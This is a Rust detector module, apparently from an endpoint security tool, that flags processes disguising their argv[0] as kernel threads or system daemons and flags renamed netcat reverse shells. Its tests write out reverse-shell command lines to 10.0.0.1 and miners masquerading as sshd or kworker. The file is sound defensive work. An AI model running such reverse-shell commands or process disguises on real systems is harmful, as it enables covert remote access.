//! argv[0] pretending to be another program: a bracketed kernel-thread name (`[kworker/0:1]`,
//! kernel threads are never exec'd), or a system daemon name over a different executable.
//! Symlink aliases (nc -> nc.openbsd, sh -> dash) are not masquerading: only daemon names
//! count, and a name that prefixes the other is an alias.

use super::{basename, Ctx, Findings};
use crate::knowledge::signals;

const DAEMONS: &[&str] = &[
    "sshd",
    "systemd",
    "kworker",
    "kthreadd",
    "cron",
    "crond",
    "rsyslogd",
    "dbus-daemon",
    "init",
    "httpd",
    "nginx",
    "mysqld",
    "sd-pam",
    "udevd",
    "agetty",
    "polkitd",
    "containerd",
    "kubelet",
];

/// Always: every exec has an argv[0] to compare with its executable.
pub use super::always as wants;

pub fn detect(cx: &Ctx, out: &mut Findings) {
    let Some(a0) = cx.facts.argv.first() else {
        return;
    };
    let exe = cx.exe_name;
    if cx.facts.exe_path.is_none() || exe.is_empty() {
        return;
    }
    let shown = basename(a0.trim());
    if a0.starts_with('[') && a0.ends_with(']') {
        out.hit(
            signals::ARGV0_MASQUERADE,
            format!(
                "argv[0] {a0:?} poses as a kernel thread; the executable is {}",
                cx.exe_path
            ),
        );
        return;
    }
    // A non-netcat name used with netcat's exec shape: `httpd -e /bin/sh HOST PORT`.
    let a = &cx.facts.argv[1..];
    let nc_shape = a
        .windows(2)
        .any(|w| (w[0] == "-e" || w[0] == "-c") && super::is_shell(basename(&w[1])));
    if nc_shape
        && super::class_of(shown) != Some(crate::knowledge::ToolClass::Netcat)
        && super::class_of(exe) != Some(crate::knowledge::ToolClass::Netcat)
        && !super::is_shell(shown)
        && shown != "busybox"
        && exe != "busybox"
    {
        out.hit(
            signals::RENAMED_UTILITY,
            format!(
                "{} ({shown}) takes netcat's -e SHELL HOST PORT options",
                cx.exe_path
            ),
        );
    }
    let head = shown.split([':', ' ']).next().unwrap_or(shown);
    if DAEMONS.contains(&head) && !exe.starts_with(head) && !head.starts_with(exe) {
        out.hit(
            signals::ARGV0_MASQUERADE,
            format!(
                "argv[0] {a0:?} poses as {head}; the executable is {}",
                cx.exe_path
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;
    use crate::analysis::Lineage;

    fn with_exe(argv: &[&str], exe: &str) -> Vec<&'static str> {
        let mut f = facts(argv);
        f.exe_path = Some(exe.into());
        run_with(detect, &f, &Lineage::default()).0
    }

    #[test]
    fn fires_on_posing_names() {
        assert_eq!(
            with_exe(&["[kworker/0:1]"], "/tmp/.x/xmrig"),
            ["argv0_masquerade"]
        );
        assert_eq!(with_exe(&["sshd"], "/var/tmp/miner"), ["argv0_masquerade"]);
    }

    #[test]
    fn quiet_on_aliases() {
        assert!(with_exe(&["nc", "-e", "/bin/sh"], "/usr/bin/nc.openbsd").is_empty());
        assert!(with_exe(&["sshd", "-D"], "/usr/sbin/sshd").is_empty());
        assert!(with_exe(&["nginx: master process"], "/usr/sbin/nginx").is_empty());
    }

    #[test]
    fn daemon_names_are_read_up_to_a_colon_or_space() {
        assert_eq!(
            with_exe(&["/usr/sbin/cron -f"], "/dev/shm/.k"),
            ["argv0_masquerade"]
        );
        assert_eq!(
            with_exe(&["dbus-daemon: session"], "/home/u/.local/x"),
            ["argv0_masquerade"]
        );
        // A longer name of the same program: OpenSSH 9.8+ runs sessions as sshd-session.
        assert!(with_exe(&["sshd: alice [priv]"], "/usr/lib/openssh/sshd-session").is_empty());
        // systemd's per-user PAM helper is in parentheses, not brackets.
        assert!(with_exe(&["(sd-pam)"], "/usr/lib/systemd/systemd").is_empty());
        // The `[` program is not a bracketed name.
        assert!(with_exe(&["[", "-f", "/etc/hosts", "]"], "/usr/bin/[").is_empty());
    }

    #[test]
    fn needs_the_executable_to_compare_with() {
        // Without the kernel's exe path, argv[0] is all there is: nothing to contradict it.
        assert!(run(detect, &["[kworker/0:1]"]).is_empty());
        assert!(run(detect, &["sshd"]).is_empty());
    }

    #[test]
    fn fires_on_netcats_exec_options_under_another_name() {
        assert_eq!(
            with_exe(
                &["httpd", "-e", "/bin/sh", "10.0.0.1", "4444"],
                "/tmp/httpd"
            ),
            ["renamed_utility"]
        );
        assert_eq!(
            with_exe(
                &["update-notifier", "-c", "bash", "10.0.0.1", "443"],
                "/var/tmp/update-notifier"
            ),
            ["renamed_utility"]
        );
        // Both at once: a daemon's name over another file, with netcat's options.
        assert_eq!(
            with_exe(&["sshd", "-e", "/bin/sh", "10.0.0.1", "4444"], "/tmp/x"),
            ["renamed_utility", "argv0_masquerade"]
        );
    }

    #[test]
    fn quiet_when_netcat_or_a_shell_owns_the_options() {
        // netcat itself, by its exe or by busybox's applet: the netcat detector reads it.
        assert!(with_exe(
            &["svc", "-e", "/bin/sh", "10.0.0.1", "4444"],
            "/usr/bin/ncat"
        )
        .is_empty());
        assert!(with_exe(
            &["busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
            "/bin/busybox"
        )
        .is_empty());
        // `sh -c bash`: a shell's own -c.
        assert!(with_exe(&["sh", "-c", "bash"], "/usr/bin/dash").is_empty());
        // -e with something other than a shell.
        assert!(with_exe(&["httpd", "-e", "info"], "/usr/sbin/httpd").is_empty());
    }
}
